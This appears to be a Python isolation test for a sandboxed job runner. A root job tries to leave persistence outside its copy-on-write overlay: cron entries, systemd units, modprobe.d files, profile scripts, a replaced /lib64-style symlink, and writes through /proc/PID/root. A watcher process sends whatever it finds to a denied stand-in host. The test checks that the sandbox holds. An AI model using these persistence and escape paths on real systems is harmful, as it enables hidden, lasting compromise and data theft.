"""A root job leaves files that processes outside every job run later: a cron file, a crontab, a systemd unit, a modprobe.d install command under /run, a program in /usr/local/bin, a profile script in root's home, a new entry of the root directory, a CI runner's program in a top-level directory of its own, an edit of an existing host config file and a replaced symbolic link in the root directory (as /lib64, where the dynamic loader is); it also writes through /proc/PID/root of a process outside the job. A stand-in for cron (outside, unfenced) watches those paths during the job and after it, and sends whatever it finds to a denied host, as cron would run it. The root job's system directories are copy-on-write (cli/overlay.c): nothing may arrive."""
import os
import time

from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("root",)
SINKS_OK = []
DENIED = [(D4, 443, "tcp")]
RECORD = [("egress.job", {"egress.system_writes": "private"})]
TIMEOUT = 60


def paths(tag):
    return [
        "/etc/cron.d/%s" % tag,
        "/var/spool/cron/crontabs/%s" % tag,
        "/etc/systemd/system/%s.service" % tag,
        "/run/modprobe.d/%s.conf" % tag,
        "/usr/local/bin/%s" % tag,
        "/root/.%s.sh" % tag,
        "/var/tmp/%s" % tag,
        # the root directory's own entries
        "/%s" % tag,
    ]


def outside(token, st):
    """The cron stand-in: a file the job leaves at one of the paths, or a
    change to the host's own config file, is 'run': its bytes go to D4."""
    tag = "efsec-%d" % os.getpid()
    conf = "/etc/%s.conf" % tag
    with open(conf, "w") as f:
        f.write("host\n")
    # a symbolic link in the root directory everyone follows, as /lib64
    # (the dynamic loader) and /bin are
    link = "/%s-link" % tag
    os.symlink("/usr/lib", link)
    # a CI runner installed in a top-level directory of its own, whose
    # programs run outside the fence for every later step
    runner = "/%s-runner" % tag
    os.makedirs(runner + "/bin")
    with open(runner + "/bin/Runner.Worker", "w") as f:
        f.write("host\n")
    st["tag"], st["conf"], st["link"], st["runner"] = tag, conf, link, runner
    watch = paths(tag)
    pid = os.fork()
    if pid:
        st["pids"].append(pid)
        st["stand_in"] = pid
        return {"args": [tag, conf, str(pid), link, runner]}
    try:
        deadline = time.time() + TIMEOUT - 5
        while time.time() < deadline:
            found = [p for p in watch if os.path.exists(p)]
            try:
                changed = open(conf).read() != "host\n" or os.readlink(link) != "/usr/lib" \
                    or open(runner + "/bin/Runner.Worker").read() != "host\n"
            except OSError:
                changed = True
            if found or changed:
                data = b""
                for p in found + ([conf, runner + "/bin/Runner.Worker"] if changed else []):
                    try:
                        data += open(p, "rb").read()
                    except OSError:
                        pass
                try:
                    data += os.readlink(link).encode()
                except OSError:
                    pass
                try:
                    tcp_send(D4, 443, data)
                except OSError:
                    pass
                break
            time.sleep(0.2)
    finally:
        os._exit(0)


def outside_cleanup(st):
    import shutil
    if st.get("runner"):
        shutil.rmtree(st["runner"], ignore_errors=True)
    for p in paths(st.get("tag", "efsec-none")) + [st.get("conf", ""), st.get("link", "")]:
        try:
            os.unlink(p)
        except OSError:
            pass


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    return open(path, "rb").read() == data


def relink(link, target):
    os.unlink(link)
    os.symlink(target, link)
    return os.readlink(link)


def job(token, args):
    tag, conf, stand_in, link, runner = args[0], args[1], args[2], args[3], args[4]
    line = payload(token, "run later")
    cron = b"* * * * * root /bin/sh -c 'echo " + line + b"'\n"
    for p in paths(tag):
        attempt("write " + p, write, p, cron if "cron" in p else line)
    attempt("edit " + conf, write, conf, line)
    attempt("replace the runner's program", write, runner + "/bin/Runner.Worker", line)
    attempt("replace " + link, relink, link, "/tmp/" + line.decode(errors="replace")[:60])
    # the host's files through the root of a process outside the job
    attempt("write through /proc/%s/root" % stand_in, write,
            "/proc/%s/root/var/tmp/%s" % (stand_in, tag), line)
    # the job sees its own writes (copy-on-write, not refused)
    out(sees_own=open(conf, "rb").read() == line)
    time.sleep(3)  # the stand-in looks while the job runs too


if __name__ == "__main__":
    main(globals())
